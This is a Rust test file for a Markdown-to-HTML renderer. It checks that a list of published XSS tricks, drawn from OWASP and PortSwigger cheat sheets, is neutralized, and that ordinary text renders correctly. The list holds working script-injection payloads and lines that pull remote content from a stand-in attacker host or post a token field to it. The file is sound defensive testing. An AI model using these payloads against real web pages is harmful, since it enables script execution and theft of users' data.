//! Published attacks that run scripts or load remote content from Markdown, and text that must stay readable.

use super::render;

/// From the cheat sheets of OWASP and PortSwigger, and from advisories against Markdown renderers.
const TRICKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><input name=token><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/projects)",
    "[x](https://ok.example\" onmouseover=\"alert(1))",
    "[x](https://ok.example 'title\" onmouseover=alert(1) x=\"')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](x\" onerror=\"alert(1))",
    "![\" onerror=\"alert(1)](https://evil.example/x)",
    "[![x](https://evil.example/x)](javascript:alert(1))",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "# <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "<p id=body><p name=cookie>",
    "<a name=x id=document>x</a>",
];

/// The elements of well-formed output, each with its attributes.
fn elements(page: &str) -> Vec<String> {
    page.split('<').skip(1).map(|rest| rest.split('>').next().unwrap().to_owned()).filter(|element| !element.starts_with('/')).collect()
}

#[test]
fn attacks_are_neutralized() {
    const HARMLESS: [&str; 26] = [
        "div",
        "p",
        "strong",
        "em",
        "code",
        "pre",
        "a",
        "ul",
        "ol",
        "li",
        "blockquote",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "hr",
        "del",
        "span",
    ];
    for trick in TRICKS {
        let page = render(trick);
        for element in elements(&page) {
            let (name, attributes) = element.split_once([' ', '/']).unwrap_or((&element, ""));
            assert!(HARMLESS.contains(&name), "{trick}\n{page}");
            for attribute in attributes.split("\" ").filter(|attribute| !attribute.trim().is_empty()) {
                let (key, value) = attribute.split_once("=\"").unwrap_or((attribute, ""));
                let good = match key.trim() {
                    "href" => ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                    // Colours of code.
                    "class" if name == "span" => super::code::CLASSES.contains(&value.trim_end_matches('"')),
                    "rel" | "target" | "title" | "class" | "align" | "start" | "dir" | "tabindex" => true,
                    _ => false,
                };
                assert!(good, "{trick}\n{page}\n{attribute}");
            }
        }
    }
}

#[test]
fn ordinary_text_stays_readable() {
    insta::assert_snapshot!(render("A `Vec<String>` and Vec<String>, **bold**, ~~gone~~\n\n- one\n- two\n\n```rust\nlet a = 1 < 2;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |"), @r#"
    <p dir="auto">A <code>Vec&lt;String&gt;</code> and Vec&lt;String&gt;, <strong>bold</strong>, <del>gone</del></p>
    <ul dir="auto">
    <li dir="auto">one</li>
    <li dir="auto">two</li>
    </ul>
    <pre tabindex="0"><code><span class="code-keyword">let</span> a = 1 &lt; 2;
    </code></pre>
    <div tabindex="0"><table><thead><tr><th dir="auto">a</th><th dir="auto">b</th></tr></thead><tbody>
    <tr><td dir="auto">1</td><td dir="auto">2</td></tr>
    </tbody></table>
    </div>
    "#);
    insta::assert_snapshot!(render("See [the page](https://example.org/a?b=1&c=2), <mailto:ann@example.org> and [a file](src/main.rs)."), @r#"<p dir="auto">See <a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">the page</a>, <a href="mailto:ann@example.org" target="_blank" rel="noopener noreferrer">mailto:ann@example.org</a> and <a rel="noopener noreferrer" target="_blank">a file</a>.</p>"#);
    insta::assert_snapshot!(render("![a picture](https://example.org/p.png) <b>loud</b>"), @r#"<p dir="auto"><a href="https://example.org/p.png" target="_blank" rel="noopener noreferrer">a picture</a> &lt;b&gt;loud&lt;/b&gt;</p>"#);
    assert_eq!(render(""), "");
}

#[test]
fn addresses_and_tasks_are_linked_and_checklists_are_readable() {
    insta::assert_snapshot!(render(
        "- [x] done\n- [ ] see https://example.org/a_b and TASK-012\n\n`TASK-001` [TASK-002](https://example.org) [x](/tasks/TASK-003) [y](/tasks/../api)\n\n```\nTASK-004 https://example.org\n```"
    ));
    assert_eq!(render("שלום"), "<p dir=\"auto\">שלום</p>\n");
}

#[test]
fn code_is_coloured_by_classes_and_stays_text() {
    let html = render("```rust\nlet a = \"<b>\"; // <script>\n```\n");
    assert!(html.contains("<span class=\"code-keyword\">let</span> a = "), "{html}");
    assert!(html.contains("<span class=\"code-comment\">// &lt;script&gt;</span>"), "{html}");
    assert!(!html.contains("<b>") && !html.contains("<script>") && !html.contains("style"), "{html}");
    assert!(!render("```\nlet a = 1;\n```").contains("<span"), "no language, no colours");
    assert!(!render("`let a = 1;`").contains("<span"));
    let written = render("<span class=\"code-keyword\">x</span>");
    assert!(!written.contains("<span"), "what is written stays text: {written}");
}

#[test]
fn long_code_is_not_coloured_and_costs_little() {
    let long = format!("```rust\n{}```\n", "let a = 1;\n".repeat(4_000));
    let html = render(&long);
    assert!(!html.contains("<span") && html.matches("let a = 1;").count() == 4_000);
    let begin = std::time::Instant::now();
    let many = format!("```rust\n{}```\n\n", "let a = \"x\"; // y\n".repeat(500)).repeat(100);
    assert!(render(&many).matches("let").count() == 50_000);
    assert!(begin.elapsed() < std::time::Duration::from_secs(20), "{:?}", begin.elapsed());
}
